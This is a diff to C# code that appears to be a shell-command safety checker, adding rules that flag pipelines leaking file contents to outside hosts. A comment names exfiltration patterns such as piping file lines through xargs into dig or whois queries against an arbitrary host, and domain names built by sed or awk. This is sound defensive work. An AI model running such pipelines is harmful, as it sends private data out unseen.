@@ -42,8 +42,17 @@ internal static partial class Hooks
                     && words.Exists(word => SentAway.IsAsker(word.Text))))
             return Started().And(Verdict.Unknown("what a file holds is sent to another machine in a name"));
         if (replace is null && call.Input is { HoldsFile: true, Writer: SimpleCommand { Words: [{ Constant: "sed" or "awk" or "gawk" }, ..] edited } }
-            && words.Exists(word => SentAway.IsSender(word.Text)) && edited.Any(word => word.Constant is { } script && DomainInScript().IsMatch(script)))
+            && !Carriers.KeepsHere(words[0].Text) && edited.Any(word => word.Constant is { } script && DomainInScript().IsMatch(script)))
             return Started().And(Verdict.Unknown("what a file holds is sent to another machine in a name"));
+        // cat names | xargs dig @HOST, | xargs whois -h HOST: each line goes to a machine that may be anybody's; and so does what sed makes a name there of.
+        if (holdsFile && !Carriers.KeepsHere(words[0].Text)
+            && (words.Skip(1).Any(word => Carriers.IsAbroad(word.Text.TrimStart('@'), call.Scope.Tools.Network))
+                || replace is not null && call.Input.Writer is SimpleCommand { Words: [{ Constant: "sed" or "awk" or "gawk" }, ..] made }
+                    && made.Any(word => word.Constant is { } script && DomainInScript().IsMatch(script))))
+            return Started().And(Verdict.Unknown("what a file holds is sent to another machine"));
+        if (DeviceFiles.Opens(words[0].Text) && NamedFiles.PrintedBy(call.Input, call.Scope) is { Count: > 0 } names
+            && NamedFiles.Judge(call with { Input = new Input(InputKind.Empty) }, words, names) is { } named && (named.Effect > Effect.Read || named.Tags != EffectTags.None))
+            return Started().And(named);
         if (replace is null) words.AddRange(SpeltOut(call.Input, parsed) ?? [new Argument(Argument.Hole.ToString(), Plain: false) { Answered = true }]);
         if (replace is null && call.Input.Text?.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries).Any(word => word.TrimStart('"', '\'').StartsWith('-')) == true
             && words.Exists(word => word.Open))
